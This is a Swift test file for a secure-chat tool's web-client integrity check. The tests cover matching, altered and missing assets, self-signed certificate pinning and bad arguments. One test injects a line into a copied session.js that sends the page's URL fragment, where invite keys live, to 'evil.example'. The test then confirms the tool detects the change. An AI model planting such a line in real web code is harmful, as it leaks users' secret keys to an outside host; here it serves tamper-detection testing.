import Foundation
import Testing
import TestSupport
#if canImport(Glibc)
import Glibc
#endif

/// `securechat inspect --web URL` against a live `serve` (the same client: status 0) and against
/// a web server that serves an altered copy (status 1, naming the files).
@Suite struct WebCheckCLITests {
    static let client = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("web/client")

    /// A plain web server laid out like the relay's pages (`/` → index.html, `/assets/NAME`),
    /// serving the files of `dir`.
    final class FakeSite {
        let process = Process()
        let port: Int
        init(_ dir: URL) throws {
            let script = """
                import http.server, os, sys
                root = sys.argv[1]
                class H(http.server.BaseHTTPRequestHandler):
                    def do_GET(self):
                        name = "index.html" if self.path == "/" else self.path[8:] if self.path.startswith("/assets/") else ""
                        f = os.path.join(root, name)
                        if not name or "/" in name or not os.path.isfile(f):
                            self.send_response(404); self.send_header("Content-Length", "0"); self.end_headers(); return
                        b = open(f, "rb").read()
                        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
                    def log_message(self, *a): pass
                s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
                print(s.server_address[1], flush=True)
                s.serve_forever()
                """
            let out = Pipe()
            process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
            process.arguments = ["-c", script, dir.path]
            process.standardOutput = out
            try process.run()
            let line = String(decoding: out.fileHandleForReading.availableData, as: UTF8.self)
            guard let port = Int(line.trimmingCharacters(in: .whitespacesAndNewlines)) else { throw ServeCLITests.CLIError("no port: \(line)") }
            self.port = port
        }
        deinit { if process.isRunning { kill(process.processIdentifier, SIGKILL); process.waitUntilExit() } }
    }

    @Test func theRelaysOwnClientIsTheSame() throws {
        let server = try ServeCLITests.Server(["--port", "0", "--db", try CLI.sandbox().appendingPathComponent("r.sqlite").path])
        let port = try server.port()
        let r = try CLI.run(["inspect", "--web", "http://127.0.0.1:\(port)"])
        #expect(r.status == 0, "\(r.stderr)")
        let files = try FileManager.default.contentsOfDirectory(atPath: Self.client.path)
        for name in files {
            let path = name == "index.html" ? "/" : "/assets/\(name)"
            #expect(r.out.contains("same         \(path)  ("), "\(name): \(r.out)")
        }
        #expect(r.out.hasSuffix("the relay at http://127.0.0.1:\(port) serves the browser client built into this securechat (\(files.count + 1) files the same)\n"), "\(r.out)")

        // An invite link names the relay too; its key is never printed.
        let link = "http://127.0.0.1:\(port)/join/3q2-7wAAAAAAAAAAAAAAAA#v=1&k=cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4"
        let j = try CLI.run(["inspect", "--json", "--web", link])
        #expect(j.status == 0, "\(j.stderr)")
        let lines = j.out.split(separator: "\n")
        #expect(lines.count == files.count + 1)
        #expect(lines.allSatisfy { $0.contains(#""verdict":"same""#) && $0.contains(#""type":"web_asset""#) })
        #expect(!j.out.contains("cw_0x") && !j.stderr.contains("cw_0x"))
        #expect(server.terminate() == 0)
    }

    @Test func anAlteredOrMissingFileIsNamed() throws {
        let dir = try CLI.sandbox()
        for name in try FileManager.default.contentsOfDirectory(atPath: Self.client.path) {
            try FileManager.default.copyItem(at: Self.client.appendingPathComponent(name), to: dir.appendingPathComponent(name))
        }
        let session = dir.appendingPathComponent("session.js")
        var text = try String(contentsOf: session, encoding: .utf8)
        text = text.replacingOccurrences(of: "const BACKOFF = [1, 2, 4, 8, 16, 30];", with: "const BACKOFF = [1, 2, 4, 8, 16, 30]; fetch(\"https://evil.example/\" + location.hash);")
        try text.write(to: session, atomically: true, encoding: .utf8)
        try FileManager.default.removeItem(at: dir.appendingPathComponent("names.js"))
        let site = try FakeSite(dir)
        let r = try CLI.run(["inspect", "--web", "http://127.0.0.1:\(site.port)"])
        #expect(r.status == 1)
        #expect(r.out.contains("differs      /assets/session.js  ("), "\(r.out)")
        #expect(r.out.contains("missing      /assets/names.js  (HTTP 404)"), "\(r.out)")
        #expect(r.out.contains("same         /assets/app.js  ("), "\(r.out)")
        #expect(r.stderr.contains("the relay at http://127.0.0.1:\(site.port) does not serve this program's browser client: /assets/names.js is missing, /assets/session.js differs"), "\(r.stderr)")
    }

    /// A relay with a self-signed certificate is checked against the fingerprint it printed, and
    /// only with it.
    @Test func aSelfSignedRelayIsCheckedByItsFingerprint() throws {
        let server = try ServeCLITests.Server(["--port", "0", "--tls-self-signed", "--db", try CLI.sandbox().appendingPathComponent("r.sqlite").path])
        let port = try server.port()
        let deadline = Date().addingTimeInterval(20)
        while !server.stdout.contains("SHA-256 "), Date() < deadline { usleep(20_000) }
        let line = try #require(server.stdout.split(separator: "\n").first { $0.hasPrefix("self-signed certificate, SHA-256 ") })
        let fingerprint = String(line.dropFirst("self-signed certificate, SHA-256 ".count))
        let url = "https://127.0.0.1:\(port)"

        let untrusted = try CLI.run(["inspect", "--web", url])
        #expect(untrusted.status == 5)
        #expect(untrusted.stderr.contains("the certificate of \(url) is not one this machine trusts"), "\(untrusted.stderr)")
        #expect(untrusted.stderr.contains("--tls-fingerprint"))

        let pinned = try CLI.run(["inspect", "--web", url, "--tls-fingerprint", fingerprint])
        #expect(pinned.status == 0, "\(pinned.stderr)")
        #expect(pinned.out.contains("the relay at \(url) serves the browser client built into this securechat"))

        var other = Array(fingerprint.replacingOccurrences(of: ":", with: "").lowercased())
        other[0] = other[0] == "0" ? "1" : "0"
        let wrong = try CLI.run(["inspect", "--web", url, "--tls-fingerprint", String(other)])
        #expect(wrong.status == 5)
        #expect(wrong.stderr.contains("does not present the certificate with the SHA-256 fingerprint given"), "\(wrong.stderr)")
        #expect(server.terminate() == 0)
    }

    @Test func badAddressesAndUnreachableRelays() throws {
        let cases: [([String], Int32, String)] = [
            (["inspect", "--web", "ftp://127.0.0.1/"], 64, "--web takes the relay's address"),
            (["inspect", "--web", "http://user@127.0.0.1/"], 64, "--web takes the relay's address"),
            (["inspect", "--web", "http://127.0.0.1:70000/"], 64, "--web"),
            (["inspect", "--web", "http://127.0.0.1:1/", "file.txt"], 64, "takes no input file"),
            (["inspect", "--web", "http://127.0.0.1:1/"], 5, "cannot fetch http://127.0.0.1:1/"),
            (["inspect", "--web", "http://127.0.0.1:1/", "--tls-fingerprint", String(repeating: "ab", count: 32)], 64, "goes with --web https://"),
            (["inspect", "--web", "https://127.0.0.1:1/", "--tls-fingerprint", "AB:CD"], 64, "32 bytes in hex"),
            (["inspect", "--web", "https://127.0.0.1:1/", "--tls-fingerprint", String(repeating: "zz", count: 32)], 64, "32 bytes in hex"),
        ]
        for (args, status, message) in cases {
            let r = try CLI.run(args)
            #expect(r.status == status, "\(args): \(r.stderr)")
            #expect(r.stderr.contains(message), "\(args): \(r.stderr)")
        }
    }
}
